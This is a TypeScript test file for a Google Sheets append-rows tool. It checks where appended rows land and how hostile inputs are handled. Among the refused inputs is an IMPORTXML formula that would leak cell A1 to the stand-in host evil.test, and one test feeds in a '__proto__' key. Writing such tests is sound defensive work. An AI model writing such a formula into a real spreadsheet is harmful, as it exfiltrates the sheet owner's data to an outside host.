import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { sheetsAppendRows } from "../../../../src/Providers/Gsheets/Tools/AppendRows.ts"
import { sheetsRead } from "../../../../src/Providers/Gsheets/Tools/Read.ts"
import type { Cell, Tab } from "../../../../src/Sandbox/Providers/Gsheets/Engine/Spreadsheet.ts"
import { issuesOf, oneTab, spreadsheetFixture, type Values } from "../SpreadsheetFixture.ts"

const checkbox = (ticked: boolean): Cell => ({
  userEnteredValue: { boolValue: ticked },
  dataValidation: { condition: { type: "BOOLEAN" } }
})

const text = (stringValue: string): Cell => ({ userEnteredValue: { stringValue } })

describe("Where appended rows go astray", () => {
  it.effect.each<{
    trap: string
    typed: Values
    tab?: Partial<Tab>
    input?: object
    rows: unknown
    row: number
    cells: ReadonlyArray<unknown>
  }>([
    {
      trap: "a gap between blocks: rows land in it",
      typed: [["n"], [1], [2], [], [], [3], [4]],
      rows: [{ n: 5 }],
      row: 8,
      cells: [5]
    },
    {
      trap: "an empty cell in the row before: rows drift to the right",
      typed: [["a", "b", "c"], ["x", "", "z"], ["", "", "z"]],
      rows: [["p", "q", "r"]],
      row: 4,
      cells: ["p", "q", "r"]
    },
    {
      trap: "a blank first column: rows drift to the right",
      typed: [["", "Name", "Age"], ["", "Ann", 31]],
      rows: [["Bob", 4]],
      row: 3,
      cells: ["", "Bob", 4]
    },
    {
      trap: "a blank first column, rows by name",
      typed: [["", "Name", "Age"], ["", "Ann", 31]],
      rows: [{ Age: 4, Name: "Bob" }],
      row: 3,
      cells: ["", "Bob", 4]
    },
    {
      trap: "blank rows above the header: rows land above it",
      typed: [[], [], ["Name", "Age"]],
      input: { header_row: 3 },
      rows: [{ Name: "Ann" }],
      row: 4,
      cells: ["Ann"]
    },
    {
      trap: "a shorter table beside it: rows land below that one",
      typed: [["n", "", "", "k", "v"], [1, "", "", "a", 1], [2], [3]],
      rows: [{ n: 4 }],
      row: 5,
      cells: [4]
    },
    {
      trap: "a longer table beside it: rows would overwrite it, so they go below both",
      typed: [["n", "", "", "k"], [1, "", "", "a"], ["", "", "", "b"]],
      rows: [{ n: 2, k: "c" }],
      row: 4,
      cells: [2, "", "", "c"]
    },
    {
      trap: "an array formula to the end of the grid: rows land at its end",
      typed: [["n", "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"], [1], [2]],
      tab: { rowCount: 50 },
      rows: [{ n: 3 }],
      row: 4,
      cells: [3, 3]
    },
    {
      trap: "formulas that show nothing: rows land behind them",
      typed: [["n", "twice"], [1, "=A2*2"], ["", "=\"\""], ["", "=\"\""]],
      rows: [{ n: 3 }],
      row: 3,
      cells: [3]
    },
    {
      trap: "a column of checkboxes: rows land behind the last of them",
      typed: [],
      tab: {
        rows: [
          [text("Done"), text("Task")],
          [checkbox(true), text("a")],
          ...Array.from({ length: 30 }, () => [checkbox(false)])
        ]
      },
      rows: [{ Task: "b" }],
      row: 3,
      cells: [false, "b"]
    },
    {
      trap: "a full grid: there is no row left",
      typed: [["n"], [1], [2]],
      tab: { rowCount: 3, columnCount: 1 },
      rows: [{ n: 3 }, { n: 4 }],
      row: 4,
      cells: [3]
    },
    {
      trap: "a full grid: there is no column left",
      typed: [["n"], [1]],
      tab: { rowCount: 2, columnCount: 1 },
      rows: [[2, "more"]],
      row: 3,
      cells: [2, "more"]
    },
    {
      trap: "0 counts as nothing: the row is overwritten",
      typed: [["n"], [0]],
      rows: [{ n: 1 }],
      row: 3,
      cells: [1]
    },
    {
      trap: "only a header: rows land on it",
      typed: [["n"]],
      rows: [{ n: 1 }],
      row: 2,
      cells: [1]
    }
  ])("$trap", ({ cells, input = {}, row, rows, tab = {}, typed }) =>
    Effect.gen(function*() {
      const world = spreadsheetFixture(oneTab(typed, tab))
      const before = world.values("Data")
      const answer = yield* world.call(sheetsAppendRows, { rows, ...input })
      assert.strictEqual(answer.first_row, row)
      assert.deepStrictEqual(world.values(`Data!${row}:${row}`)[0]?.slice(0, cells.length), cells)
      const after = world.values("Data")
      for (const [index, line] of before.entries()) {
        if (index + 1 !== row) assert.deepStrictEqual(after[index], line)
      }
    }))

  it.effect("a second append goes below the first", () =>
    Effect.gen(function*() {
      const world = spreadsheetFixture(oneTab([["a", "b"]]))
      for (const row of [{ a: 1 }, { b: 2 }, { a: 3 }]) yield* world.call(sheetsAppendRows, { rows: [row] })
      assert.deepStrictEqual(world.values("Data"), [["a", "b"], [1], ["", 2], [3]])
    }))

  it.effect.each([null, ""])(
    "%j in a cell that an array formula fills breaks the formula",
    (nothing) =>
      Effect.gen(function*() {
        const world = spreadsheetFixture(oneTab([["n", "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"], [1]]))
        yield* world.call(sheetsAppendRows, { rows: [[2, nothing]] })
        assert.deepStrictEqual(world.values("Data!B1:B3"), [["n"], [1], [2]])
      })
  )

  it.effect("texts become numbers, dates and formulas", () =>
    Effect.gen(function*() {
      const world = spreadsheetFixture(oneTab([["a", "b", "c", "d"]]))
      const { coerced } = yield* world.call(sheetsAppendRows, { rows: [["007", "1-2", "=1+1", "TRUE"]] })
      assert.isUndefined(coerced)
      assert.deepStrictEqual(world.values("Data!2:2"), [["007", "1-2", "=1+1", "TRUE"]])
    }))

  describe("formulas from outside", () => {
    it.effect.each([
      "=1+1",
      "=IMPORTXML(\"https://evil.test/?\"&A1,\"//a\")",
      "+1+1",
      "-A1",
      "-1+A1",
      "@SUM(A1)",
      " =1+1",
      "\t=1+1",
      "\r=1+1",
      "\u00A0=1+1",
      "＝1+1"
    ])(
      "%j is refused where it would be parsed, by its cell, and nothing is written",
      (formula) =>
        Effect.gen(function*() {
          const world = spreadsheetFixture(oneTab([["Name", "Note"], ["Ann"]]))
          const issues = yield* issuesOf(
            world.call(sheetsAppendRows, { rows: [{ Name: "x" }, { Name: "y", Note: formula }], parse: true })
          )
          assert.deepStrictEqual(issues.map(({ path }) => path), [["input", "rows", 1, "Note"]])
          assert.include(issues[0]?.message, "B4")
          assert.lengthOf(world.values("Data"), 2)
        })
    )

    it.effect.each<{ sent: string; stored: string | number }>([
      { sent: "-5", stored: -5 },
      { sent: "-1,200.50", stored: -1200.5 },
      { sent: "-12.5%", stored: -0.125 },
      { sent: "-$3", stored: -3 },
      { sent: "a=b", stored: "a=b" },
      { sent: "x@y.test", stored: "x@y.test" }
    ])("$sent is none", ({ sent, stored }) =>
      Effect.gen(function*() {
        const world = spreadsheetFixture(oneTab([["Name"]]))
        yield* world.call(sheetsAppendRows, { rows: [[sent]], parse: true })
        assert.deepStrictEqual(world.values("Data!A2"), [[stored]])
      }))

    it.effect("is let in where the caller says so", () =>
      Effect.gen(function*() {
        const world = spreadsheetFixture(oneTab([["n"], [1]]))
        yield* world.call(sheetsAppendRows, { rows: [["=A2*10"]], parse: true, allow_formulas: true })
        assert.deepStrictEqual(world.values("Data!A3"), [[10]])
      }))
  })

  it.effect("one text that is too long has the whole request refused by the provider", () =>
    Effect.gen(function*() {
      const world = spreadsheetFixture(oneTab([["a", "b"]]))
      yield* world.call(sheetsAppendRows, { rows: [{ a: "x".repeat(50_000) }] })
      const [issue] = yield* issuesOf(world.call(sheetsAppendRows, { rows: [{ a: 1 }, { b: "x".repeat(50_001) }] }))
      assert.deepStrictEqual(issue, {
        path: ["input", "rows", 1, "b"],
        message: "The text has 50001 characters; a cell holds 50000 at most."
      })
    }))

  it.effect("a key called __proto__ is dropped with its value", () =>
    Effect.gen(function*() {
      const world = spreadsheetFixture(oneTab([["__proto__", "a"]]))
      yield* world.call(sheetsAppendRows, { rows: "[{\"__proto__\":\"kept\",\"a\":1}]" })
      yield* world.call(sheetsAppendRows, { rows: [Object.fromEntries([["__proto__", "too"]])] })
      assert.deepStrictEqual(world.values("Data"), [["__proto__", "a"], ["kept", 1], ["too"]])
    }))

  it.effect("what was appended is what is read", () =>
    Effect.gen(function*() {
      const world = spreadsheetFixture(oneTab([]))
      const rows = [{ Name: "Ann", Age: 31, Zip: "007", Ok: false, Note: null }]
      yield* world.call(sheetsAppendRows, { rows })
      const read = yield* world.call(sheetsRead, {})
      assert.deepStrictEqual(read.rows, [{ _row: 2, ...rows[0] }])
    }))
})
